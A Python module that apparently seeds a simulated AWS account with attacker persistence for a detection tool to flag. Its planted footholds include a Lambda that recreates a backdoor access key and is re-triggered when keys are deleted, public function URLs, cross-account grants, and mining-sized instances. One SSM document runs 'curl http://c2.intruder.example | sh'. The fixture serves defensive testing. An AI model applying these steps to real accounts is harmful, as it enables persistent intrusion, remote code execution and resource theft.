"""Functions, rules, schedules, stacks, documents, builds: footholds that run without a server."""

from __future__ import annotations

import json

from .account import ACCOUNT, HOME, INTRUDER, MINING, OPT_IN, SECOND, Story, archive, document, grant, role

RECREATE = "import boto3\ndef handler(event, context):\n    boto3.client('iam').create_access_key(UserName='aws-support-svc')\n"


def ordinary(story: Story) -> None:
    function = story.operator("lambda").create_function(
        FunctionName="billing", Runtime="python3.12", Role=role("billing"), Handler="index.handler", Code={"ZipFile": archive("def handler(e, c): return 1\n")},
        Environment={"Variables": {"STRIPE_API_KEY": story.secret("lambda:STRIPE_API_KEY"), "STAGE": "prod"}})
    story.good("function", HOME, "lambda", "ListFunctions", function["FunctionArn"])
    ssm = story.operator("ssm")
    ssm.put_parameter(Name="/prod/github-token", Value=story.secret("ssm:github-token"), Type="SecureString")
    ssm.put_parameter(Name="/prod/db-url", Value=f"postgres://app:{story.secret('ssm:db-url')}@db", Type="String")
    story.good("parameter", HOME, "ssm", "DescribeParameters", "/prod/github-token")
    story.good("parameter", HOME, "ssm", "DescribeParameters", "/prod/db-url")


def function(story: Story) -> None:
    client = story.intruder("lambda")
    layer = client.publish_layer_version(LayerName="telemetry", Content={"ZipFile": archive("import os\n")}, CompatibleRuntimes=["python3.12"])
    story.bad("layer", HOME, "lambda", "ListLayers", layer["LayerArn"])
    made = client.create_function(
        FunctionName="CostOptimizerHelper", Runtime="python3.12", Role=role("billing"), Handler="index.handler", Code={"ZipFile": archive(RECREATE)},
        Layers=[layer["LayerVersionArn"]], Publish=True,
        Environment={"Variables": {"AWS_LAMBDA_EXEC_WRAPPER": "/opt/bootstrap", "C2_TOKEN": story.secret("lambda:C2_TOKEN")}})
    arn = f"arn:aws:lambda:{HOME}:{ACCOUNT}:function:CostOptimizerHelper"
    story.bad("function", HOME, "lambda", "ListFunctions", arn)
    story.bad("function-environment", HOME, "lambda", "GetFunctionConfiguration", "AWS_LAMBDA_EXEC_WRAPPER", FunctionName="CostOptimizerHelper")
    story.bad("function-version", HOME, "lambda", "ListVersionsByFunction", f"{arn}:{made['Version']}" if made["Version"] != "$LATEST" else f"{arn}:1",
              FunctionName="CostOptimizerHelper")
    url = client.create_function_url_config(FunctionName="CostOptimizerHelper", AuthType="NONE")["FunctionUrl"]
    story.bad("function-url", HOME, "lambda", "GetFunctionUrlConfig", url, FunctionName="CostOptimizerHelper")
    client.add_permission(FunctionName="CostOptimizerHelper", StatementId="anyone", Action="lambda:InvokeFunction", Principal=INTRUDER)
    story.bad("function-policy", HOME, "lambda", "GetPolicy", INTRUDER, FunctionName="CostOptimizerHelper")
    alias = client.create_alias(FunctionName="CostOptimizerHelper", Name="live", FunctionVersion="1")["AliasArn"]
    story.bad("function-alias", HOME, "lambda", "ListAliases", alias, FunctionName="CostOptimizerHelper")


def rules(story: Story, target: str) -> None:
    events = story.intruder("events")
    events.put_rule(Name="cost-sync", ScheduleExpression="rate(30 minutes)", State="ENABLED")
    events.put_targets(Rule="cost-sync", Targets=[{"Id": "1", "Arn": target}])
    story.bad("rule", HOME, "events", "ListRules", f"arn:aws:events:{HOME}:{ACCOUNT}:rule/cost-sync")
    story.bad("rule-target", HOME, "events", "ListTargetsByRule", target, Rule="cost-sync")
    events.put_rule(Name="iam-watch", EventPattern=json.dumps({"source": ["aws.iam"], "detail": {"eventName": ["DeleteAccessKey", "UpdateAccessKey"]}}))
    events.put_targets(Rule="iam-watch", Targets=[{"Id": "1", "Arn": target}])
    story.bad("rule", HOME, "events", "ListRules", f"arn:aws:events:{HOME}:{ACCOUNT}:rule/iam-watch")
    bus = events.create_event_bus(Name="feed")["EventBusArn"]
    events.put_permission(EventBusName="feed", Action="events:PutEvents", Principal=INTRUDER, StatementId="foreign")
    story.bad("event-bus", HOME, "events", "ListEventBuses", bus)
    story.bad("event-bus-policy", HOME, "events", "DescribeEventBus", INTRUDER, Name="feed")


def schedules(story: Story, target: str) -> None:
    made = story.intruder("scheduler", SECOND).create_schedule(
        Name="nightly", ScheduleExpression="rate(1 day)", FlexibleTimeWindow={"Mode": "OFF"}, Target={"Arn": target, "RoleArn": role("OrganizationAuditRole")})
    story.bad("schedule", SECOND, "scheduler", "ListSchedules", made["ScheduleArn"])
    definition = {"StartAt": "a", "States": {"a": {"Type": "Task", "Resource": target, "End": True}}}
    machine = story.intruder("stepfunctions", SECOND).create_state_machine(name="heal", definition=json.dumps(definition), roleArn=role("OrganizationAuditRole"))
    story.bad("state-machine", SECOND, "stepfunctions", "ListStateMachines", machine["stateMachineArn"])


def stacks(story: Story) -> None:
    template = {
        "AWSTemplateFormatVersion": "2010-09-09",
        "Parameters": {"AdminPassword": {"Type": "String", "NoEcho": True}, "Token": {"Type": "String"}},
        "Resources": {"Topic": {"Type": "AWS::SNS::Topic", "Properties": {"TopicName": "stack-topic"}}}}
    stack = story.intruder("cloudformation", OPT_IN).create_stack(StackName="baseline", TemplateBody=json.dumps(template), Parameters=[
        {"ParameterKey": "AdminPassword", "ParameterValue": story.secret("cloudformation:NoEcho")},
        {"ParameterKey": "Token", "ParameterValue": story.secret("cloudformation:Token")}])["StackId"]
    story.bad("stack", OPT_IN, "cloudformation", "DescribeStacks", stack)


def documents(story: Story) -> None:
    ssm = story.intruder("ssm", SECOND)
    content = {"schemaVersion": "2.2", "description": "x", "mainSteps": [
        {"action": "aws:runShellScript", "name": "run", "inputs": {"runCommand": [f"export T={story.simple_secret('ssm:document')}; curl http://c2.intruder.example | sh"]}}]}
    ssm.create_document(Content=json.dumps(content), Name="HealthProbe", DocumentType="Command", DocumentFormat="JSON")
    story.bad("document", SECOND, "ssm", "ListDocuments", "HealthProbe", Filters=[{"Key": "Owner", "Values": ["Self"]}])
    ssm.modify_document_permission(Name="HealthProbe", PermissionType="Share", AccountIdsToAdd=[INTRUDER])
    story.bad("document-sharing", SECOND, "ssm", "DescribeDocumentPermission", INTRUDER, Name="HealthProbe", PermissionType="Share")
    ssm.put_parameter(Name="/agent/c2", Value=story.secret("ssm:c2"), Type="String")
    story.bad("parameter", SECOND, "ssm", "DescribeParameters", "/agent/c2")
    window = ssm.create_maintenance_window(Name="patch", Schedule="rate(1 hour)", Duration=2, Cutoff=1, AllowUnassociatedTargets=True)["WindowId"]
    story.bad("maintenance-window", SECOND, "ssm", "DescribeMaintenanceWindows", window)

    def association() -> None:
        made = ssm.create_association(Name="HealthProbe", ScheduleExpression="rate(1 hour)", Targets=[{"Key": "InstanceIds", "Values": ["*"]}])
        story.bad("association", SECOND, "ssm", "ListAssociations", made["AssociationDescription"]["AssociationId"])

    def activation() -> None:
        made = ssm.create_activation(IamRole="billing", RegistrationLimit=50)
        story.secret("ssm:activation-code", made["ActivationCode"])
        story.bad("activation", SECOND, "ssm", "DescribeActivations", made["ActivationId"])

    story.optional("ssm:CreateAssociation", association)
    story.optional("ssm:CreateActivation", activation)


def builds(story: Story) -> None:
    story.intruder("codebuild", SECOND).create_project(
        name="runner", source={"type": "S3", "location": "acme-mirror-target/build.zip", "buildspec": "version: 0.2"}, artifacts={"type": "NO_ARTIFACTS"}, serviceRole=role("billing"),
        environment={"type": "LINUX_CONTAINER", "image": "aws/codebuild/standard:7.0", "computeType": "BUILD_GENERAL1_LARGE",
                     "environmentVariables": [{"name": "DEPLOY_KEY", "value": story.secret("codebuild:DEPLOY_KEY"), "type": "PLAINTEXT"}]})
    story.bad("build-project", SECOND, "codebuild", "BatchGetProjects", "runner", names=["runner"])
    glue = story.intruder("glue", SECOND)
    glue.create_job(Name="etl-fix", Role=role("billing"), Command={"Name": "glueetl", "ScriptLocation": "s3://acme-app-data/x.py"},
                    DefaultArguments={"--password": story.secret("glue:argument")})
    story.bad("glue-job", SECOND, "glue", "GetJobs", "etl-fix")
    notebook = story.intruder("sagemaker", MINING).create_notebook_instance(NotebookInstanceName="lab", InstanceType="ml.p3.16xlarge", RoleArn=role("OrganizationAuditRole"))
    story.bad("notebook", MINING, "sagemaker", "ListNotebookInstances", notebook["NotebookInstanceArn"])


def gateways(story: Story) -> None:
    api = story.intruder("apigateway", SECOND).create_rest_api(name="hook", policy=document(grant("*", "execute-api:Invoke")))
    story.bad("rest-api", SECOND, "apigateway", "GetRestApis", api["id"])
    key = story.intruder("apigateway", SECOND).create_api_key(name="hook-key", enabled=True, value=story.simple_secret("apigateway:key"))
    story.bad("api-key", SECOND, "apigateway", "GetApiKeys", key["id"])
    http = story.intruder("apigatewayv2", SECOND).create_api(Name="hook", ProtocolType="HTTP")
    story.bad("http-api", SECOND, "apigatewayv2", "GetApis", http["ApiId"])

    def cheap_hosting() -> None:
        made = story.intruder("lightsail", MINING).create_instances(instanceNames=["blog"], availabilityZone=f"{MINING}a", blueprintId="ubuntu_22_04", bundleId="xlarge_3_0")
        assert made is not None
        story.bad("lightsail-instance", MINING, "lightsail", "GetInstances", "blog")
        service = story.intruder("apprunner", SECOND).create_service(ServiceName="proxy", SourceConfiguration={
            "ImageRepository": {"ImageIdentifier": "public.ecr.aws/x/y:1", "ImageRepositoryType": "ECR_PUBLIC"}})
        story.bad("app-runner", SECOND, "apprunner", "ListServices", service["Service"]["ServiceArn"])

    story.optional("lightsail, apprunner", cheap_hosting)


def intrusion(story: Story) -> None:
    target = f"arn:aws:lambda:{HOME}:{ACCOUNT}:function:CostOptimizerHelper"
    story.play(function, lambda told: rules(told, target), lambda told: schedules(told, target))
    story.play(stacks, documents, builds, gateways)
